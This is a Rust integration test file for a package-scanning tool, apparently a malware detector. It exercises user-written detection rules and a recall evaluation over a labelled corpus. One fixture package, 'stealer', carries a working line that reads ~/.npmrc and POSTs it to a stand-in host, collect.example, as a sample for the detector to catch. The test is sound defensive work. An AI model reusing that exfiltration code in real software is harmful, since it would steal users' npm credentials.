//! `paddock rules`, `--rules DIR` and `paddock eval` as a rule writer runs
//! them: on local artifacts, with no network.
#![allow(clippy::disallowed_methods)] // a test may read its own environment

use std::path::Path;
use std::process::Command;

mod common;
use common::{paddock, run, text};

/// An npm tarball of `files` (paths under `package/`).
fn npm_tarball(dir: &Path, name: &str, files: &[(&str, &str)]) -> std::path::PathBuf {
    let tree = dir.join(format!("{name}-tree"));
    for (path, body) in files {
        let p = tree.join("package").join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    }
    let out = dir.join(format!("{name}-1.0.0.tgz"));
    let status = Command::new("tar")
        .arg("czf")
        .arg(&out)
        .arg("-C")
        .arg(&tree)
        .arg("package")
        .status()
        .unwrap();
    assert!(status.success());
    out
}

const MANIFEST: &str = r#"{"name": "marker-pkg", "version": "1.0.0", "main": "index.js"}"#;

fn user_rules(dir: &Path) -> std::path::PathBuf {
    let rules = dir.join("my-rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("mine.toml"),
        r#"[[rule]]
id = "threat.calls-marker"
title = "calls the marker function"
severity = "high"
confidence = 0.9
technique = "T1059.007"
description = "A call of paddockMarker()."
[rule.match]
query = { language = "javascript", pattern = '(call_expression function: (identifier) @f (#eq? @f "paddockMarker")) @hit' }
[[rule.example]]
expect = "match"
file = "index.js"
code = "paddockMarker();\n"
[[rule.example]]
expect = "no-match"
file = "index.js"
code = "somethingElse();\n"
"#,
    )
    .unwrap();
    std::fs::write(
        rules.join("mine.yar"),
        "rule marker_text {\n  meta:\n    severity = \"medium\"\n    title = \"carries the marker text\"\n  strings:\n    $a = \"PADDOCK-MARKER-TEXT\"\n  condition:\n    $a\n}\n",
    )
    .unwrap();
    rules
}

#[test]
fn rules_test_passes_on_the_shipped_set() {
    let out = run(paddock().args(["rules", "test"]));
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}{}", text(&out.stderr));
    assert!(
        stdout.contains("the shipped rules:") && stdout.contains(" 0 failed"),
        "{stdout}"
    );
}

#[test]
fn a_users_query_rule_and_yara_rule_load_with_rules_and_fire() {
    let dir = tempfile::tempdir().unwrap();
    let rules = user_rules(dir.path());
    let out = run(paddock().args(["rules", "test"]).arg(&rules));
    assert!(
        out.status.success(),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    assert!(
        text(&out.stdout).contains("1 rules, 2 examples, 0 failed")
            || text(&out.stdout).contains("2 rules, 2 examples, 0 failed"),
        "{}",
        text(&out.stdout)
    );

    let listed = text(&run(paddock().arg("rules").arg("--rules").arg(&rules)).stdout);
    assert!(
        listed.contains("threat.calls-marker") && listed.contains("threat.yara.marker_text"),
        "{listed}"
    );
    assert!(listed.contains("+local."), "{listed}");

    let artifact = npm_tarball(
        dir.path(),
        "marker-pkg",
        &[
            ("package.json", MANIFEST),
            ("index.js", "// PADDOCK-MARKER-TEXT\npaddockMarker();\n"),
        ],
    );
    let out = run(paddock()
        .args([
            "analyze",
            "--static",
            "--format",
            "json",
            "--ecosystem",
            "npm",
            "--local",
        ])
        .arg(&artifact)
        .arg("--rules")
        .arg(&rules));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = json["findings"].as_array().unwrap();
    let of = |id: &str| findings.iter().find(|f| f["ruleId"] == id).cloned();
    let q = of("threat.calls-marker").unwrap_or_else(|| panic!("{findings:#?}"));
    assert_eq!(q["evidence"][0]["file"], "package/index.js");
    assert_eq!(q["evidence"][0]["line"], 2);
    assert!(q["ruleVersion"].as_str().unwrap().contains("+local."));
    assert!(of("threat.yara.marker_text").is_some(), "{findings:#?}");

    // Without --rules neither fires.
    let out = run(paddock()
        .args([
            "analyze",
            "--static",
            "--format",
            "json",
            "--ecosystem",
            "npm",
            "--local",
        ])
        .arg(&artifact));
    let plain = text(&out.stdout);
    assert!(
        !plain.contains("threat.calls-marker") && !plain.contains("marker_text"),
        "{plain}"
    );
}

#[test]
fn broken_rule_files_are_clear_errors_naming_the_file_and_the_rule() {
    let dir = tempfile::tempdir().unwrap();
    let artifact = npm_tarball(
        dir.path(),
        "p",
        &[("package.json", MANIFEST), ("index.js", "x();\n")],
    );
    let cases: [(&str, &str, &[&str]); 3] = [
        ("syntax.toml", "[[rule]]\nid = \"threat.x\"\ntitle = \n", &["syntax.toml", "line 3"]),
        (
            "yara.toml",
            "[[rule]]\nid = \"threat.bad-yara\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nyara = '''rule r { condition: $nothing }'''\n",
            &["yara.toml", "threat.bad-yara"],
        ),
        (
            "pattern.toml",
            "[[rule]]\nid = \"threat.bad-query\"\ntitle = \"t\"\nseverity = \"high\"\ndescription = \"d\"\n[rule.match]\nquery = { language = \"javascript\", pattern = \"((call_expression) @hit\" }\n",
            &["pattern.toml", "threat.bad-query"],
        ),
    ];
    for (name, body, wants) in cases {
        let rules = dir.path().join(format!("rules-{name}"));
        std::fs::create_dir_all(&rules).unwrap();
        std::fs::write(rules.join(name), body).unwrap();
        let out = run(paddock()
            .args(["analyze", "--static", "--ecosystem", "npm", "--local"])
            .arg(&artifact)
            .arg("--rules")
            .arg(&rules));
        assert_eq!(out.status.code(), Some(1), "{name}");
        let err = text(&out.stderr);
        for want in wants {
            assert!(err.contains(want), "{name}: `{want}` missing from: {err}");
        }
        assert!(!err.contains("panicked"), "{err}");
        let out = run(paddock().args(["rules", "test"]).arg(&rules));
        assert_eq!(out.status.code(), Some(1), "{name}");
        assert!(
            text(&out.stderr).contains(wants[0]),
            "{}",
            text(&out.stderr)
        );
    }
}

#[test]
fn eval_reports_recall_false_alerts_misses_and_timings() {
    let dir = tempfile::tempdir().unwrap();
    let corpus = dir.path().join("corpus");
    std::fs::create_dir_all(&corpus).unwrap();
    npm_tarball(
        &corpus,
        "stealer",
        &[
            ("package.json", r#"{"name": "stealer", "version": "1.0.0", "main": "index.js"}"#),
            ("index.js", "const fs = require('fs');\nconst k = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\nfetch('https://collect.example/x', { method: 'POST', body: k });\n"),
        ],
    );
    npm_tarball(
        &corpus,
        "quiet",
        &[
            (
                "package.json",
                r#"{"name": "quiet", "version": "1.0.0", "main": "index.js"}"#,
            ),
            ("index.js", "module.exports = (a, b) => a + b;\n"),
        ],
    );
    npm_tarball(
        &corpus,
        "missed",
        &[
            (
                "package.json",
                r#"{"name": "missed", "version": "1.0.0", "main": "index.js"}"#,
            ),
            ("index.js", "module.exports = () => 42;\n"),
        ],
    );
    std::fs::write(
        corpus.join("labels.csv"),
        "file,ecosystem,label,technique\nstealer-1.0.0.tgz,npm,malicious,T1552.001\nquiet-1.0.0.tgz,npm,benign,\nmissed-1.0.0.tgz,npm,malicious,T1499\n",
    )
    .unwrap();
    let out = run(paddock()
        .args(["eval", "--static", "--format", "json"])
        .arg(&corpus));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let r: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(r["total"]["malicious"], 2);
    assert_eq!(r["total"]["detected"], 1);
    assert_eq!(r["total"]["false_alerts"], 0);
    assert_eq!(r["recall"], 0.5);
    assert_eq!(r["by_ecosystem"]["npm"]["benign"], 1);
    assert_eq!(r["by_technique"]["T1552.001"]["detected"], 1);
    assert_eq!(r["misses"][0]["file"], "missed-1.0.0.tgz");
    assert!(r["timings"]["total_seconds"].as_f64().unwrap() > 0.0);
    let stealer = r["samples"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["file"] == "stealer-1.0.0.tgz")
        .unwrap();
    assert_eq!(
        stealer["evidence"][0][0],
        "threat.exfiltrate-credential-files"
    );

    let out = run(paddock().args(["eval", "--static"]).arg(&corpus));
    let report = text(&out.stdout);
    for want in [
        "recall: 1/2 malicious (50.0%)",
        "false alerts: 0/1 benign",
        "misses (1)",
        "missed-1.0.0.tgz",
        "timings:",
    ] {
        assert!(report.contains(want), "`{want}` missing from:\n{report}");
    }
    // A bad label is an error naming the file.
    std::fs::write(
        corpus.join("labels.csv"),
        "file,ecosystem,label\nquiet-1.0.0.tgz,npm,suspicious\n",
    )
    .unwrap();
    let out = run(paddock().args(["eval", "--static"]).arg(&corpus));
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("suspicious"),
        "{}",
        text(&out.stderr)
    );
}
